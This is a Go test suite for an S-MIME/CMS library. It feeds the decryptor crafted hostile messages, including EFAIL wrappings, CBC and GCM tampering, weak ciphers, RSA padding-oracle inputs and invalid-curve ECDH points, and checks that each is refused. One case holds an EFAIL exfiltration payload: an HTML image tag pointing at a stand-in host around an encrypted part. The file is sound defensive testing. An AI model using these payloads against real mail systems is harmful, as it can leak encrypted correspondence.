package cms_test

import (
	"bytes"
	"errors"
	"slices"
	"strings"

	"cardiopli/crypto/cms"
)

// atkEncryption attacks the content: EFAIL (Poddebniak et al., USENIX Security
// 2018), the forms of RFC 5084, and ciphers of other days.
func atkEncryption(w *atkWorld) []atkCase {
	good := w.good()
	gcm := func(e atkEnv) []byte { e.gcm = true; return w.mailEnv(atkAlice, e, good) }
	cbc := func(e atkEnv) []byte { return w.mailEnv(atkAlice, e, good) }
	part := func() string {
		return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + atkB64(w.seal(atkEnv{}, good))
	}
	html := func(s string) string { return "Content-Type: text/html\r\n\r\n" + s }
	around := func(kind string, parts ...string) []byte {
		return atkFrom(atkAlice, "Content-Type: multipart/"+kind+"; boundary=lim\r\n\r\n--lim\r\n"+strings.Join(parts, "\r\n--lim\r\n")+"\r\n--lim--\r\n")
	}
	key, iv := atkRandom(32), atkRandom(16)
	bent := slices.Clone(iv)
	bent[3] ^= 1
	sound := atkCBC(key, iv, good)
	with := func(f func([]byte) []byte) []byte {
		return cbc(atkEnv{key: key, iv: iv, recipients: [][]byte{w.ktri(key)}, cipherText: f(slices.Clone(sound))})
	}
	gk := atkRandom(32)
	attrs := atkAttr("1.2.3.4", atkInt(7))
	other := atkAttr("1.2.3.4", atkInt(8))
	seal := func(alg string, params ...[]byte) []byte {
		return cbc(atkEnv{alg: atkAlg(alg, params...), cipherText: atkRandom(64)})
	}
	return []atkCase{
		{name: "sound CBC", want: "trusted", message: cbc(atkEnv{})},
		{name: "sound GCM", want: "trusted", message: gcm(atkEnv{})},
		{name: "direct exfiltration", want: "not-smime|malformed", message: around("mixed", html(`<img src="http://x.example/`), part(), html(`">`))},
		{name: "part with a footer", want: "not-smime|malformed", message: around("mixed", part(), "\r\nliste")},
		{name: "alternative", want: "not-smime|malformed", message: around("alternative", html("Bonjour"), part())},
		{name: "only part of a mixed", want: "not-smime|malformed", message: around("mixed", part())},
		{name: "in message rfc822", want: "not-smime|malformed", message: atkFrom(atkAlice, "Content-Type: message/rfc822\r\n\r\n"+string(cbc(atkEnv{})))},
		{name: "CBC first block bent by the IV", want: "refused", message: cbc(atkEnv{key: key, iv: bent, recipients: [][]byte{w.ktri(key)}, cipherText: sound})},
		{name: "CBC block repeated", want: "refused", message: with(func(b []byte) []byte { return slices.Insert(b, 160, b[160:192]...) })},
		{name: "CBC gadget pair in the signature", want: "refused", message: with(func(b []byte) []byte { copy(b[320:], b[0:32]); return b })},
		{name: "CBC bit in the middle", want: "refused", message: with(func(b []byte) []byte { b[400] ^= 4; return b })},
		{name: "CBC last block cut", want: "refused", message: with(func(b []byte) []byte { return b[:len(b)-16] })},
		{name: "CBC padding broken", want: "undecryptable", message: with(func(b []byte) []byte { b[len(b)-17] ^= 0x80; return b })},
		{name: "CBC length no multiple", want: "undecryptable|malformed", message: with(func(b []byte) []byte { return b[:len(b)-1] })},
		{name: "CBC empty", want: "undecryptable|malformed", message: with(func(b []byte) []byte { return []byte{} })},
		{name: "CBC one block of padding", want: "refused", message: w.mailEnv(atkAlice, atkEnv{}, []byte{})},
		{name: "CBC IV of 8", want: "malformed|undecryptable|unsupported", message: cbc(atkEnv{alg: atkAlg(atkCBC256, atkOct(atkRandom(8)))})},
		{name: "CBC no IV", want: "malformed|undecryptable|unsupported", message: cbc(atkEnv{alg: atkAlg(atkCBC256)})},
		{name: "CBC unsigned html", want: "unsigned", message: w.mailEnv(atkAlice, atkEnv{}, []byte("Content-Type: text/html\r\n\r\n<img src=x>\r\n"))},
		{name: "CBC garbage", want: "refused", message: w.mailEnv(atkAlice, atkEnv{}, atkRandom(300))},
		{name: "GCM content as CBC", want: "refused", message: func() []byte {
			e := atkEnv{key: gk, recipients: [][]byte{w.ktri(gk)}, cipherText: slices.Clone(atkRandom(16 * 20))}
			return cbc(e)
		}()},
		{name: "AuthEnveloped with a CBC cipher", want: "refused", message: gcm(atkEnv{alg: atkAlg(atkCBC256, atkOct(iv)), mac: atkRandom(16), cipherText: sound, key: key})},
		{name: "Enveloped with a GCM cipher and no tag", want: "refused", message: cbc(atkEnv{alg: atkAlg(atkGCM256, atkSeq(atkOct(atkRandom(12)), atkInt(16)))})},
		{name: "GCM tag flipped", want: "undecryptable", message: gcm(atkEnv{mac: atkRandom(16)})},
		{name: "GCM tag of 4, declared", want: "undecryptable|malformed|weak|unsupported", message: gcm(atkEnv{icv: 4})},
		{name: "GCM tag of 0, declared", want: "undecryptable|malformed|weak|unsupported", message: gcm(atkEnv{alg: atkAlg(atkGCM256, atkSeq(atkOct(atkRandom(12)), atkInt(0))), mac: []byte{}})},
		{name: "GCM tag of -1", want: "undecryptable|malformed|weak|unsupported", message: gcm(atkEnv{alg: atkAlg(atkGCM256, atkSeq(atkOct(atkRandom(12)), atkInt(-1)))})},
		{name: "GCM tag of 12, declared (RFC 5084)", want: "trusted", message: gcm(atkEnv{icv: 12})},
		{name: "GCM tag of 12 where 16 is declared", want: "undecryptable|malformed", message: func() []byte {
			iv := atkRandom(12)
			return gcm(atkEnv{iv: iv, icv: 12, alg: atkAlg(atkGCM256, atkSeq(atkOct(iv), atkInt(16)))})
		}()},
		{name: "GCM tag of 16 where the default 12 is meant", want: "undecryptable|malformed", message: func() []byte {
			iv := atkRandom(12)
			return gcm(atkEnv{iv: iv, alg: atkAlg(atkGCM256, atkSeq(atkOct(iv)))})
		}()},
		{name: "GCM empty nonce", want: "undecryptable|malformed|unsupported", message: gcm(atkEnv{alg: atkAlg(atkGCM256, atkSeq(atkOct(), atkInt(16)))})},
		{name: "GCM nonce of 64 KiB", want: "undecryptable|malformed|unsupported", message: gcm(atkEnv{alg: atkAlg(atkGCM256, atkSeq(atkOct(atkRandom(65536)), atkInt(16)))})},
		{name: "GCM attributes that count", want: "trusted", message: gcm(atkEnv{authAttrs: atkCtx(1, attrs), aad: atkSet(attrs)})},
		{name: "GCM attributes altered", want: "undecryptable", message: gcm(atkEnv{authAttrs: atkCtx(1, other), aad: atkSet(attrs)})},
		{name: "GCM attributes taken away", want: "undecryptable", message: gcm(atkEnv{aad: atkSet(attrs)})},
		{name: "GCM attributes added", want: "undecryptable", message: gcm(atkEnv{authAttrs: atkCtx(1, attrs)})},
		{name: "3DES", want: "weak", message: seal("1.2.840.113549.3.7", atkOct(atkRandom(8)))},
		{name: "RC2-40", want: "weak", message: seal("1.2.840.113549.3.2", atkSeq(atkInt(160), atkOct(atkRandom(8))))},
		{name: "DES", want: "weak", message: seal("1.3.14.3.2.7", atkOct(atkRandom(8)))},
		{name: "RC4", want: "weak|unsupported", message: seal("1.2.840.113549.3.4", atkNull())},
		{name: "AES-ECB", want: "weak|unsupported", message: seal("2.16.840.1.101.3.4.1.41")},
		{name: "AES-CFB", want: "unsupported", message: seal("2.16.840.1.101.3.4.1.44", atkOct(atkRandom(16)))},
		{name: "no cipher of any kind", want: "unsupported", message: seal("1.2.3.4.5.6.7.8")},
		{name: "ChaCha20-Poly1305 (RFC 8103)", want: "unsupported", message: gcm(atkEnv{alg: atkAlg("1.2.840.113549.1.9.16.3.18", atkOct(atkRandom(12))), cipherText: atkRandom(64), mac: atkRandom(16)})},
		{name: "originatorInfo is passed over", want: "trusted", message: cbc(atkEnv{first: atkCtx(0, atkCtx(0, w.alice))})},
		{name: "unprotectedAttrs are passed over", want: "trusted", message: cbc(atkEnv{tail: atkCtx(1, attrs)})},
		{name: "bytes after the content", want: "malformed", message: cbc(atkEnv{tail: atkOct([]byte("x"))})},
		{name: "CompressedData", want: "unsupported|weak|not-smime", message: atkFrom(atkAlice, atkEntity("compressed-data", atkSeq(atkOID("1.2.840.113549.1.9.16.1.9"), atkCtx(0, atkSeq(atkInt(0), atkAlg("1.2.840.113549.1.9.16.3.8"), atkSeq(atkOID(atkData), atkCtx(0, atkOct(atkRandom(50)))))))))},
		{name: "CompressedData inside", want: "unsupported|weak|unsigned|not-smime", message: w.mailEnv(atkAlice, atkEnv{}, []byte(atkEntity("compressed-data", atkSeq(atkOID("1.2.840.113549.1.9.16.1.9"), atkCtx(0, atkSeq(atkInt(0)))))))},
		{name: "EncryptedData with a known key", want: "unsupported", message: atkFrom(atkAlice, atkEntity("enveloped-data", atkSeq(atkOID("1.2.840.113549.1.7.6"), atkCtx(0, atkSeq(atkInt(0), atkSeq(atkOID(atkData), atkAlg(atkCBC256, atkOct(iv)), atkPrim(0, sound)))))))},
		{name: "signed around encrypted, unsigned inside", want: "unsigned|not-smime|not-encrypted", message: atkFrom(atkEvil, atkEntity("signed-data", atkSD{content: []byte(atkEntity("enveloped-data", w.seal(atkEnv{}, atkLetter("vole")))), signer: w.by(w.evil)}.der()))},
		{name: "stolen letter wrapped and signed by Eve", want: "other-address|refused", message: w.mail(atkEvil, atkSD{content: []byte(atkEntity("enveloped-data", w.seal(atkEnv{}, good))), signer: w.by(w.evil)})},
		{name: "four layers", want: "too-large", message: w.mail(atkAlice, atkSD{content: []byte(atkEntity("enveloped-data", w.seal(atkEnv{}, good))), signer: w.by(w.alice)})},
		{name: "triple wrap (RFC 2634)", want: "trusted", message: atkFrom(atkAlice, atkEntity("signed-data", atkSD{content: []byte(atkEntity("enveloped-data", w.seal(atkEnv{}, good))), signer: w.by(w.alice)}.der())), check: func(o cms.Opened) error {
			if !bytes.Contains(o.Entity, []byte("Bonjour")) {
				return errors.New("the innermost content was not what came out")
			}
			return nil
		}},
	}
}

// atkTransport attacks the key of the content: Bleichenbacher (CRYPTO 1998), the
// parameters of OAEP, and curves that are not those of the key.
func atkTransport(w *atkWorld) []atkCase {
	good := w.good()
	key := atkRandom(32)
	with := func(r ...[]byte) []byte {
		return w.mailEnv(atkAlice, atkEnv{gcm: true, key: key, recipients: r}, good)
	}
	rsaAlg := atkAlg(atkRSA, atkNull())
	n := w.readerRSA.N
	k := n.FillBytes(make([]byte, 256))
	kari := func(a atkKari) []byte { return with(w.kari(a, key)) }
	p384 := append([]byte{4}, atkRandom(96)...)
	offCurve := append([]byte{4}, bytes.Repeat([]byte{1}, 64)...)
	oaep := func(params []byte, hash, mgf, label string) []byte {
		return with(w.ktriRaw(atkAlg(atkOAEP, params), atkOAEPEncrypt(&w.readerRSA.PublicKey, key, hash, mgf, label)))
	}
	h := func(o string) []byte { return atkCtx(0, atkAlg(o, atkNull())) }
	mgf := func(o string) []byte { return atkCtx(1, atkAlg(atkMGF1, atkAlg(o, atkNull()))) }
	label := func(s string) []byte { return atkCtx(2, atkAlg(atkPSpecified, atkOct([]byte(s)))) }
	ski := atkSeq(atkInt(2), atkPrim(0, atkParse(w.rsaCert).SubjectKeyId), rsaAlg, atkOct(atkRandom(256)))
	pwri := atkCtx(3, atkInt(0), atkCtx(0, atkAlg("1.2.840.113549.1.5.12", atkSeq(atkOct(atkRandom(8)), atkInt(1<<31-1)))), atkAlg("1.2.840.113549.1.9.16.3.9", atkAlg(atkCBC256, atkOct(atkRandom(16)))), atkOct(atkRandom(32)))
	refuse := "undecryptable|malformed|unsupported|weak"
	return []atkCase{
		{name: "RSA random", want: "undecryptable", message: with(w.ktriRaw(rsaAlg, append([]byte{0}, atkRandom(255)...)))},
		{name: "RSA zero", want: "undecryptable", message: with(w.ktriRaw(rsaAlg, make([]byte, 256)))},
		{name: "RSA one", want: "undecryptable", message: with(w.ktriRaw(rsaAlg, append(make([]byte, 255), 1)))},
		{name: "RSA the modulus", want: "undecryptable", message: with(w.ktriRaw(rsaAlg, k))},
		{name: "RSA empty", want: "undecryptable|malformed", message: with(w.ktriRaw(rsaAlg, nil))},
		{name: "RSA short", want: "undecryptable|malformed", message: with(w.ktriRaw(rsaAlg, atkRandom(255)))},
		{name: "RSA long", want: "undecryptable|malformed", message: with(w.ktriRaw(rsaAlg, append(atkRandom(256), 0)))},
		{name: "RSA key of 16 for AES-256", want: "undecryptable", message: with(w.ktri(key[:16]))},
		{name: "RSA key of 0", want: "undecryptable", message: with(w.ktri(nil))},
		{name: "RSA with odd parameters", want: "undecryptable|malformed|unsupported", message: with(w.ktriRaw(atkAlg(atkRSA, atkInt(7)), append([]byte{0}, atkRandom(255)...)))},
		{name: "OAEP sound", want: "trusted", message: oaep(atkSeq(h(atkSHA256), mgf(atkSHA256)), atkSHA256, atkSHA256, "")},
		{name: "OAEP defaults", want: "trusted", message: oaep(atkSeq(), atkSHA1, atkSHA1, "")},
		{name: "OAEP mixed", want: "trusted", message: oaep(atkSeq(h(atkSHA256)), atkSHA256, atkSHA1, "")},
		{name: "OAEP label", want: "trusted", message: oaep(atkSeq(h(atkSHA256), mgf(atkSHA256), label("x")), atkSHA256, atkSHA256, "x")},
		{name: "OAEP other label", want: "undecryptable", message: oaep(atkSeq(h(atkSHA256), mgf(atkSHA256), label("y")), atkSHA256, atkSHA256, "x")},
		{name: "OAEP MD5", want: "weak|unsupported", message: oaep(atkSeq(h(atkMD5), mgf(atkMD5)), atkSHA256, atkSHA256, "")},
		{name: "OAEP other mask", want: "unsupported|malformed", message: oaep(atkSeq(h(atkSHA256), atkCtx(1, atkAlg("1.2.3.4"))), atkSHA256, atkSHA256, "")},
		{name: "OAEP other source of the label", want: "unsupported|malformed", message: oaep(atkSeq(h(atkSHA256), mgf(atkSHA256), atkCtx(2, atkAlg("1.2.3.4", atkOct()))), atkSHA256, atkSHA256, "")},
		{name: "OAEP no parameters", want: "malformed|unsupported|trusted", message: with(w.ktriRaw(atkAlg(atkOAEP), atkOAEPEncrypt(&w.readerRSA.PublicKey, key, atkSHA1, atkSHA1, "")))},
		{name: "OAEP parameters twice", want: "malformed", message: oaep(atkSeq(h(atkSHA256), h(atkSHA256), mgf(atkSHA256)), atkSHA256, atkSHA256, "")},
		{name: "password first, then the reader", want: "trusted", message: with(pwri, w.ktri(key))},
		{name: "password alone", want: "not-recipient|unsupported", message: with(pwri)},
		{name: "key identifier of another", want: "not-recipient|undecryptable", message: with(ski)},
		{name: "nobody", want: "malformed|not-recipient", message: with([][]byte{}...)},
		{name: "other serial number", want: "not-recipient", message: with(atkSeq(atkInt(0), atkSeq(w.caName, atkInt(1)), rsaAlg, atkOct(atkRandom(256))))},
		{name: "same serial number, other issuer", want: "not-recipient", message: with(atkSeq(atkInt(0), atkSeq(atkName("AC Deux"), atkBig(atkParse(w.rsaCert).SerialNumber)), rsaAlg, atkOct(atkRandom(256))))},
		{name: "recipient of an unknown kind first", want: "trusted|malformed", message: with(atkCtx(4, atkOID("1.2.3"), atkSeq()), w.ktri(key))},
		{name: "ECDH sound", want: "trusted", reader: "ec", message: kari(atkKari{})},
		{name: "ECDH with ukm", want: "trusted", reader: "ec", message: kari(atkKari{ukm: []byte("ukm")})},
		{name: "ECDH off the curve", want: refuse, reader: "ec", message: kari(atkKari{point: offCurve})},
		{name: "ECDH at infinity", want: refuse, reader: "ec", message: kari(atkKari{point: []byte{0}})},
		{name: "ECDH on P-384", want: refuse, reader: "ec", message: kari(atkKari{point: p384})},
		{name: "ECDH says P-384", want: refuse, reader: "ec", message: kari(atkKari{alg: atkAlg(atkECKey, atkOID("1.3.132.0.34"))})},
		{name: "ECDH own curve by hand", want: refuse, reader: "ec", message: kari(atkKari{alg: atkAlg(atkECKey, atkSeq(atkInt(1), atkSeq(atkOID("1.2.840.10045.1.1"), atkInt(23))))})},
		{name: "ECDH no point", want: refuse, reader: "ec", message: kari(atkKari{point: []byte{}})},
		{name: "ECDH reader's own point", want: refuse, reader: "ec", message: func() []byte {
			p, _ := w.readerEC.PublicKey.ECDH()
			return kari(atkKari{point: p.Bytes()})
		}()},
		{name: "ECDH wrap by 3DES", want: "weak|unsupported", reader: "ec", message: kari(atkKari{wrap: "1.2.840.113549.1.9.16.3.6"})},
		{name: "ECDH wrapped key cut", want: refuse, reader: "ec", message: kari(atkKari{wrapped: atkRandom(32)})},
		{name: "ECDH wrapped key of 8", want: refuse, reader: "ec", message: kari(atkKari{wrapped: atkRandom(8)})},
		{name: "ECDH wrapped key empty", want: refuse, reader: "ec", message: kari(atkKari{wrapped: []byte{}})},
		{name: "ECDH wrapped key of 1 MiB", want: refuse, reader: "ec", message: kari(atkKari{wrapped: atkRandom(1 << 20)})},
		{name: "ECDH static originator", want: "unsupported|malformed", reader: "ec", message: kari(atkKari{origin: atkIssuerSerial(w.alice)})},
		{name: "RSA key for the curve certificate", want: refuse, reader: "ec", message: with(atkSeq(atkInt(0), atkIssuerSerial(w.ecCert), rsaAlg, atkOct(atkRandom(256))))},
		{name: "curve agreement for the RSA certificate", want: refuse, message: func() []byte {
			r := w.kari(atkKari{}, key)
			return with(bytes.Replace(r, atkIssuerSerial(w.ecCert), atkIssuerSerial(w.rsaCert), 1))
		}()},
	}
}
